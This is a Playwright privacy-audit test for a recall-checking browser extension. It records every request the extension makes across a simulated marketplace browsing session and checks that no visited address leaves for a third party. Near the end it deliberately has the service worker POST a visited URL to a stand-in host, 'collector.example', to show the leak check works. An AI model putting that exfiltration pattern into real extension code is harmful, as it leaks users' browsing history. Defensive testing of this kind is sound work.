/**
 * Issue 14's privacy audit, on the production build (what users run): a browsing session across every
 * marketplace (a product page of each, carts, an order history), the popup, and a sync, with every
 * request the extension makes recorded from outside it (extension-requests.ts). Only feed and index
 * hosts are asked (and the sources' own hosts for a card's picture), and nothing asked carries a
 * visited address or a product seen. The one exception is by design: the product page of a cart or
 * order line, read on the marketplace that listed it (privacy-rules.ts).
 *
 * Pages are the real saved pages in ../shared/data/real-pages (a product page per marketplace), served at
 * their addresses; Home Depot and Temu, of which no real page is saved, and the carts are our hand-made
 * fixtures. Everything else the pages ask for is refused, so the only answers are the ones below.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { tabIdForVerdict } from '../../scripts/lib/browser';
import { decodeHtml } from '../../scripts/lib/html';
import { FEED_RULE, registryMembers } from '../../scripts/lib/registry-files';
import { findSharedData } from '../../scripts/lib/shared-data';
import type { FeedAbout, FeedMapper } from '../../utils/feeds/feed';
import type { AdapterTestCase, MarketplaceAdapter } from '../../utils/marketplaces/adapter';
import aliexpress, { testCases as aliexpressCases } from '../../utils/marketplaces/aliexpress';
import amazon, { testCases as amazonCases } from '../../utils/marketplaces/amazon';
import bestbuy, { testCases as bestbuyCases } from '../../utils/marketplaces/bestbuy';
import ebay, { testCases as ebayCases } from '../../utils/marketplaces/ebay';
import etsy, { testCases as etsyCases } from '../../utils/marketplaces/etsy';
import homedepot, { testCases as homedepotCases } from '../../utils/marketplaces/homedepot';
import jd, { testCases as jdCases } from '../../utils/marketplaces/jd';
import taobao, { testCases as taobaoCases } from '../../utils/marketplaces/taobao';
import target, { testCases as targetCases } from '../../utils/marketplaces/target';
import temu, { testCases as temuCases } from '../../utils/marketplaces/temu';
import walmart, { testCases as walmartCases } from '../../utils/marketplaces/walmart';
import { OFFICIAL_HOSTS } from '../../utils/official-hosts';
import { realPageCases as aliexpressReal } from '../adapters/real-pages/aliexpress';
import { realPageCases as amazonReal } from '../adapters/real-pages/amazon';
import { realPageCases as bestbuyReal } from '../adapters/real-pages/bestbuy';
import { realPageCases as ebayReal } from '../adapters/real-pages/ebay';
import { realPageCases as etsyReal } from '../adapters/real-pages/etsy';
import { realPageCases as jdReal } from '../adapters/real-pages/jd';
import type { RealPageCase } from '../adapters/real-pages/real-page-case';
import { realPageCases as taobaoReal } from '../adapters/real-pages/taobao';
import { realPageCases as targetReal } from '../adapters/real-pages/target';
import { realPageCases as walmartReal } from '../adapters/real-pages/walmart';
import { ExtensionRequests } from './extension-requests';
import { expect, FIXTURES, test, verdictFor } from './fixtures';
import { amazonListing } from './listing';
import { breaches, lineListedOn, type Rules, type Visit } from './privacy-rules';

test.use({ build: 'chrome-mv3' });

const ROOT = path.resolve(import.meta.dirname, '../..');
const REAL_PAGES = findSharedData('real-pages');
const CPSC_RECALLS = findSharedData('cpsc', 'agent-data-oracle');
/** A published index the session's settings name; the production build trusts no test key, so its sync fails, but it is asked. */
const INDEX_URL = 'https://index.recall-sentinel.example/v1/manifest.json';
/** Where the audit's own check sends a visited address, to see that a leak would be caught. */
const COLLECTOR = 'https://collector.example/';
const RECALLED = 'https://www.amazon.com/dp/B0REALUPC2';

interface Marketplace {
  adapter: MarketplaceAdapter;
  /** The adapter's own cases on our hand-made fixtures. */
  handMade: AdapterTestCase[];
  /** Its real saved pages, where any are saved. */
  real: RealPageCase[];
}

/** The marketplaces whose content scripts the production build runs on their own sites (Shopify pages need the shopper's grant). */
const MARKETPLACES: Marketplace[] = [
  { adapter: aliexpress, handMade: aliexpressCases, real: aliexpressReal },
  { adapter: amazon, handMade: amazonCases, real: amazonReal },
  { adapter: bestbuy, handMade: bestbuyCases, real: bestbuyReal },
  { adapter: ebay, handMade: ebayCases, real: ebayReal },
  { adapter: etsy, handMade: etsyCases, real: etsyReal },
  { adapter: homedepot, handMade: homedepotCases, real: [] },
  { adapter: jd, handMade: jdCases, real: jdReal },
  { adapter: taobao, handMade: taobaoCases, real: taobaoReal },
  { adapter: target, handMade: targetCases, real: targetReal },
  { adapter: temu, handMade: temuCases, real: [] },
  { adapter: walmart, handMade: walmartCases, real: walmartReal },
];

interface SessionPage extends Visit {
  body: string;
}

/**
 * The session: per marketplace, the first real product page saved of it (else the adapter's first
 * hand-made product fixture), the real Amazon order history, the hand-made Amazon cart (lines read on
 * amazon.com itself) and JD cart (lines read on item.jd.com, by the service worker), and a hand-made
 * listing of a product the starter index recalls, last, so the popup shows a recall card.
 */
function sessionPages(realPages: string): SessionPage[] {
  const pages: SessionPage[] = [];
  for (const { adapter, handMade, real } of MARKETPLACES) {
    const fromReal = (c: RealPageCase): SessionPage => ({
      url: c.url,
      pageType: c.expectPageType,
      adapter,
      items: c.expectItems,
      body: decodeHtml(readFileSync(path.join(realPages, c.page))),
    });
    const fromFixture = (c: AdapterTestCase): SessionPage => ({
      url: c.url,
      pageType: c.expectPageType,
      adapter,
      items: c.expectItems ?? [],
      body: readFileSync(path.join(FIXTURES, c.fixture as string), 'utf8'),
    });
    const realProduct = real.find((c) => c.expectPageType === 'product');
    const handMadeProduct = handMade.find((c) => c.fixture && c.expectPageType === 'product');
    if (realProduct) pages.push(fromReal(realProduct));
    else if (handMadeProduct) pages.push(fromFixture(handMadeProduct));
    if (adapter === amazon || adapter === jd) {
      const cart = handMade.find((c) => c.fixture === `${adapter.id}/cart.html`);
      if (cart) pages.push(fromFixture(cart));
    }
    if (adapter === amazon) {
      const orders = real.find((c) => c.page === 'amazon-com/order-history-2025-amazon-store.html');
      if (orders) pages.push(fromReal(orders));
    }
  }
  // Last, so the popup opens for it: Kroger acetaminophen, recalled by CPSC in 2022 (the starter index
  // has it: production-build.spec.ts).
  pages.push({
    url: RECALLED,
    pageType: 'product',
    adapter: amazon,
    items: [{ itemId: 'B0REALUPC2', rawGtins: ['041260012846'] }],
    body: amazonListing('B0REALUPC2', '041260012846'),
  });
  return pages;
}

/** Every host a sync may read: each feed's endpoint and catalogue hosts, and the published index. */
async function syncHosts(indexUrl: string): Promise<Set<string>> {
  const hosts = new Set([new URL(indexUrl).hostname]);
  for (const feed of registryMembers(ROOT, FEED_RULE)) {
    const mapper = ((await import(feed.file)) as { default: FeedMapper }).default;
    if (mapper.endpoint) hosts.add(new URL(mapper.endpoint.buildUrl(null)).hostname);
    const about = ((await import(path.join(path.dirname(feed.file), 'about.ts'))) as { default: FeedAbout })
      .default;
    for (const pattern of about.hostPermissions) hosts.add(new URL(pattern.replace('*', '')).hostname);
  }
  return hosts;
}

/** The CPSC API's answer: real records, as the API printed them (../shared/data/cpsc/agent-data-oracle). */
function cpscAnswer(): string {
  const dir = CPSC_RECALLS as string;
  const records = ['recall-10191.json', 'recall-10329.json', 'recall-9986.json'].flatMap(
    (file) => JSON.parse(readFileSync(path.join(dir, file), 'utf8')) as unknown[],
  );
  return JSON.stringify(records);
}

test('a browsing session across every marketplace asks only feed and index hosts, and never for a page or product seen', async ({
  context,
  worker,
  extensionId,
  openPopupFor,
}) => {
  test.skip(!REAL_PAGES || !CPSC_RECALLS, 'the shared real data is not beside the repository');
  test.setTimeout(120_000);
  const recorder = new ExtensionRequests(context, extensionId);
  const pages = sessionPages(REAL_PAGES as string);
  const served = new Map(pages.map((p) => [p.url, p.body]));
  const cpsc = cpscAnswer();
  await context.route('**/*', (route) => {
    const url = route.request().url();
    if (!/^https?:/.test(url)) return route.continue();
    const body = served.get(url);
    if (body !== undefined)
      return route.fulfill({ status: 200, contentType: 'text/html; charset=utf-8', body });
    if (url.startsWith('https://www.saferproducts.gov/'))
      return route.fulfill({ status: 200, contentType: 'application/json', body: cpsc });
    // A line's product page, an index that is not there: a plain 404. The pages' own assets: refused.
    if (route.request().resourceType() === 'fetch' || route.request().serviceWorker())
      return route.fulfill({ status: 404, body: '' });
    return route.abort();
  });

  const tab = await recorder.newPage();
  for (const page of pages) {
    await tab.goto(page.url, { waitUntil: 'domcontentloaded' });
    // The content script has read the page and asked the background about it (the first page waits
    // for the starter data to load).
    await tabIdForVerdict(worker, page.url, 30_000);
    if (page.pageType === 'cart' || page.pageType === 'orders') {
      // Its lines' product pages are read after the first answer: wait until they were asked for.
      await expect
        .poll(async () => (await recorder.all()).filter((r) => lineListedOn(r, [page])).length)
        .toBeGreaterThan(0);
    }
  }

  // The popup for the recalled listing (the last page): a recall card, with the authority's picture.
  expect((await verdictFor(worker, RECALLED)).status).toBe('warning');
  await openPopupFor(RECALLED);

  // A sync from the settings page: CPSC at its own address, and a published index.
  await worker.evaluate(async (url) => {
    await chrome.storage.local.set({ settings: { publishedIndexUrl: url } });
  }, INDEX_URL);
  const options = await context.newPage();
  await options.goto(`chrome-extension://${extensionId}/options.html`);
  await options.getByRole('button', { name: 'Sync now' }).click();
  await expect(options.getByTestId('sync-message')).toContainText('CPSC: 3 recalls downloaded', {
    timeout: 20_000,
  });

  const rules: Rules = {
    extensionOrigin: `chrome-extension://${extensionId}/`,
    syncHosts: await syncHosts(INDEX_URL),
    sourceHosts: new Set(Object.values(OFFICIAL_HOSTS).flat()),
    visits: pages,
  };
  const requests = await recorder.all();
  // The recorder saw the extension at work, from every side: the service worker's sync and the lines'
  // product pages, read by the content script (Amazon) and by the service worker (JD).
  const asked = (from: string, host: string) =>
    requests.filter((r) => r.from === from && new URL(r.url).hostname === host).length;
  expect(asked('service-worker', 'www.saferproducts.gov')).toBeGreaterThan(0);
  expect(asked('service-worker', 'index.recall-sentinel.example')).toBeGreaterThan(0);
  expect(asked('content-script', 'www.amazon.com')).toBeGreaterThan(0);
  expect(asked('service-worker', 'item.jd.com')).toBeGreaterThan(0);
  expect(breaches(requests, rules)).toEqual([]);

  // And a leak would be caught: the service worker sends a visited address to a third party.
  const visited = pages[0]?.url as string;
  await worker.evaluate(
    (url) => fetch(url, { method: 'POST', body: 'ok' }).catch(() => undefined),
    `${COLLECTOR}?u=${encodeURIComponent(visited)}`,
  );
  const planted = `service-worker POST ${COLLECTOR}?u=${encodeURIComponent(visited)}`;
  await expect
    .poll(async () => breaches(await recorder.all(), rules))
    .toEqual(
      expect.arrayContaining([
        `${planted}: collector.example is no feed or index host`,
        `${planted}: carries the address on ${visited}`,
      ]),
    );
  expect(breaches(await recorder.all(), rules).every((b) => b.startsWith(planted))).toBe(true);
});
